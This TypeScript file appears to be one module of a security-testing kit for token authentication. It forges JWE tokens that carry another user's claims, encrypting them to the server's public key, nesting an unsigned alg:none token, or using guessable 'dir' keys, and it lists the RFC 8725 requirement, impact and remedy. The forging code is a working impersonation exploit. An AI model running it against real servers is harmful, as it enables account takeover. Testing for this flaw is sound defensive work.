import { createHash } from 'node:crypto'
import { CompactEncrypt } from 'jose'
import { encrypted, encryptionAlgorithms, encrypts } from '../../kit/encrypted-token.ts'
import { assemble, readToken } from '../../kit/forge-token.ts'
import { tokenAttack, type Variant } from '../../kit/token-attack.ts'

const claims = 'JSON.stringify(claims(TOKEN_B))'
const nested = "join(part({ ...header(TOKEN_B), alg: 'none' }), part(claims(TOKEN_B)), '')"
const forged = (expression: string) => () => `const forged = ${expression}`

export default tokenAttack({
  id: 'token/jwe-dir-or-pubkey',
  rows: ['token.jwe-dir-or-pubkey'],
  title:
    'Claims of another user, encrypted to the server’s public key or with a key that can be guessed, signed by nobody',
  requirement: 'RFC 8725 section 3.2: encryption to a public key proves nothing about the sender; a signature does',
  impact: 'The public key is public: anyone makes tokens for any user.',
  remedy: 'Take signed tokens only (three segments). Where tokens are encrypted, verify the signature inside.',
  severity: 'critical',
  cwe: ['CWE-347'],
  references: ['RFC 8725 section 3.2', 'RFC 7519 section 11.2'],
  provenBy: 'jwe-as-auth',
  needs: ['publicKey'],
  async forge({ publicKey, victim }) {
    const { header, payload } = readToken(victim.token)
    const { alg: _, ...rest } = header
    const json = JSON.stringify(payload)
    const unsigned = assemble({ ...header, alg: 'none' }, payload, '')
    const variants: Variant[] = []
    for (const alg of encryptionAlgorithms(publicKey)) {
      const toKey = { ...rest, alg }
      variants.push({
        name: `${alg}, plain claims`,
        token: await encrypted(publicKey, json, toKey),
        makes: forged(encrypts(publicKey, claims, toKey)),
      })
      variants.push({
        name: `${alg}, A128CBC-HS256`,
        token: await encrypted(publicKey, json, { ...toKey, enc: 'A128CBC-HS256' }),
        makes: forged(encrypts(publicKey, claims, { ...toKey, enc: 'A128CBC-HS256' })),
      })
      variants.push({
        name: `${alg}, an unsigned token in it`,
        token: await encrypted(publicKey, unsigned, { ...toKey, cty: 'JWT' }),
        makes: forged(encrypts(publicKey, nested, { ...toKey, cty: 'JWT' })),
      })
    }
    const guesses: [name: string, key: Buffer, source: string][] = [
      ['zeros', Buffer.alloc(32), 'Buffer.alloc(32)'],
      [
        'a hash of the public key',
        createHash('sha256').update(publicKey).digest(),
        "(await import('node:crypto')).createHash('sha256').update(PUBLIC_KEY).digest()",
      ],
      [
        'the beginning of the public key',
        Buffer.from(publicKey).subarray(0, 32),
        'Buffer.from(PUBLIC_KEY).subarray(0, 32)',
      ],
    ]
    for (const [name, key, source] of guesses) {
      const jwe = new CompactEncrypt(Buffer.from(json)).setProtectedHeader({ ...rest, alg: 'dir', enc: 'A256GCM' })
      variants.push({
        name: `dir with ${name} as key`,
        token: await jwe.encrypt(key),
        makes: forged(encrypts(publicKey, claims, { ...rest, alg: 'dir' }).replace('Buffer.alloc(32)', () => source)),
      })
    }
    return variants
  },
})
